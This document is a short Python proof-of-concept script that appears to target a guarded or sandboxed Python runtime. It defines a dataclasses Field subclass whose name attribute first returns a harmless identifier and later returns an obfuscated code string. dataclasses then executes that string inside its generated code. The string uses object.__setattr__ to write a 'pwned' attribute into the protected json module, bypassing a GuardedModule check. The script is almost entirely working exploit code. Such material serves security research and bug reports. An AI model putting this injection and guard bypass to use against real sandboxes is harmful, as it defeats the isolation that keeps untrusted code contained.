# dataclasses pastes Field.name into the code it execs; the run-time wall checks the field
# names it finds as keys of _process_class's `fields` (read once), but the code generator reads
# f.name again: a Field subclass of the program's answers an identifier first and a line of
# code of the program's later. The pasted code runs (prints) and writes a guarded module's
# namespace with object.__setattr__ (reached as the template's own __dataclass_builtins_object__).
import dataclasses, json

store = {}
n = [0]
on = [False]
inj = ("x=x;" + "__data" + "class_builtins_object__." + "__set" + "attr__" +
       "(_type_x[1],'pw'+'ned',_type_x[2]);_type_x[0]('PW' + 'NED: code from a run-time string ran inside dataclasses exec');self.x")


class F(dataclasses.Field):
    def __setattr__(self, key, value):
        store[key] = value

    def __getattr__(self, key):
        if key == "name" and on[0]:
            n[0] += 1
            return inj if n[0] == 5 else "x"
        if key in store:
            return store[key]
        raise AttributeError(key)


@dataclasses.dataclass(init=False, repr=False, eq=False, match_args=False)
class B:
    """base"""
    x: (print, json, "written by a string") = F(dataclasses.MISSING, dataclasses.MISSING, True, True, None, True, None, False)


on[0] = True


@dataclasses.dataclass(repr=False, eq=False, match_args=False)
class C(B):
    """derived"""


C(1)
v = getattr(json, "pwned", None)
if v is not None:
    print("PW" + "NED: json module namespace written past GuardedModule: json.pwned =", repr(v))
